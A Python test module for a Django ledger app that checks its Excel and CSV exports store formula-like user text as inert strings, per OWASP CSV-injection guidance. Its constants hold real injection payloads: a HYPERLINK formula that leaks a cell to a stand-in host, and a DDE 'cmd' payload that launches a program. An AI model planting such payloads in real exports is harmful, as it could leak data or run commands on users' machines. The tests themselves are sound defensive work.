"""Issue 13.1: every export writes user text as text. A report text or task text that a
spreadsheet would run as a formula lands as a string cell in .xlsx (no ``<f>`` element in the
saved sheet XML) and with a leading single quote in .csv (OWASP CSV injection); numbers stay
numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from duban.ledger.models import Task, Unit
from duban.ledger.services import submit_progress_report
from duban.lib.cells import csv_value
from duban.reports import ledger_csv, ledger_xlsx
from duban.supervision.reports.assessment import assessment_xlsx
from duban.supervision.reports.dispatch import dispatch_xlsx
from duban.supervision.services.assessment import score_assessment
from duban.supervision.services.dispatch import build_dispatch
from web.base import WebTestCase

LEAK = '=HYPERLINK("http://x/?leak="&B2,"点击")'
CMD = "=cmd|' /C calc'!A0"
UNIT = "@SUM(1+1)卫生健康委"

# (cell text, CSV form, note)
CSV_CASES = [
    (LEAK, "'" + LEAK, "formula"),
    ("+1+2", "'+1+2", "plus"),
    ("-1+2", "'-1+2", "minus"),
    ("@SUM(A1)", "'@SUM(A1)", "at"),
    ("\t=1", "'\t=1", "tab"),
    ("\r=1", "'\r=1", "carriage return"),
    ("推进改革", "推进改革", "plain text unchanged"),
    (-3, -3, "a number stays a number"),
    (None, "", "empty"),
]


def formulas(data: bytes) -> list[str]:
    """The sheet parts of a saved .xlsx that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [name for name in book.namelist()
                if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", book.read(name))]


def cell_values(data: bytes) -> set:
    book = load_workbook(io.BytesIO(data))
    return {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}


def test_csv_cells_are_quoted_per_owasp():
    for value, expected, note in CSV_CASES:
        assert csv_value(value) == expected, note


class InjectionTests(WebTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        Task.objects.filter(pk=cls.other_task.pk).update(content=CMD)
        Unit.objects.filter(pk=cls.health.pk).update(name=UNIT)
        submit_progress_report(cls.office, cls.own_task, LEAK, 40)

    def assert_text(self, data: bytes, *texts):
        assert formulas(data) == []
        values = cell_values(data)
        for text in texts:
            assert text in values

    def test_the_ledger_xlsx_holds_text_not_formulas(self):
        data = ledger_xlsx(self.document)
        self.assert_text(data, LEAK, CMD)
        sheet = load_workbook(io.BytesIO(data)).active
        header = [cell.value for cell in sheet[2]]
        percent = sheet.cell(row=3, column=header.index("完成比例（%）") + 1)
        assert percent.value == 40 and percent.data_type == "n"

    def test_the_ledger_csv_quotes_formula_text(self):
        rows = list(csv.reader(io.StringIO(ledger_csv(self.document))))
        cells = {cell for row in rows for cell in row}
        assert "'" + LEAK in cells and "'" + CMD in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
        assert "40" in cells

    def test_the_downloads_web_and_api_hold_text(self):
        self.sign_in("office")
        for name in ("document-xlsx", "api-v1:export_xlsx"):
            key = "pk" if name == "document-xlsx" else "document_id"
            response = self.client.get(reverse(name, kwargs={key: self.document.pk}))
            self.assert_text(response.getvalue(), LEAK, CMD)
        for name in ("document-csv", "api-v1:export_csv"):
            key = "pk" if name == "document-csv" else "document_id"
            response = self.client.get(reverse(name, kwargs={key: self.document.pk}))
            text = response.getvalue().decode("utf-8-sig")
            assert f"'{LEAK}".replace('"', '""') in text and f"'{CMD}" in text

    def test_the_dispatch_xlsx_holds_text_and_numbers(self):
        report = build_dispatch(self.document, dt.date(2022, 9, 15), dt.date(2022, 9, 15))
        data = dispatch_xlsx(report)
        self.assert_text(data, CMD)
        counts = load_workbook(io.BytesIO(data))["总体情况"]
        totals = {row[0]: row[1] for row in counts.iter_rows(min_row=3, values_only=True)}
        assert totals["任务总数"] == 3

    def test_the_dispatch_download_holds_text(self):
        self.sign_in("office")
        url = reverse("supervision:dispatch-download", args=[self.document.pk, "xlsx"])
        response = self.client.get(url, {"day": "2022-09-15"})
        self.assert_text(response.getvalue(), CMD)

    def test_the_assessment_xlsx_holds_text_and_numbers(self):
        day = dt.date(2022, 12, 31)
        scores = score_assessment(dt.date(2022, 1, 1), day, day, self.document)
        data = assessment_xlsx(scores, "=考核")
        self.assert_text(data, "=考核")
        assert any(UNIT in str(value) for value in cell_values(data))
        ranking = load_workbook(io.BytesIO(data))["排名"]
        assert ranking.cell(row=3, column=3).data_type == "n"
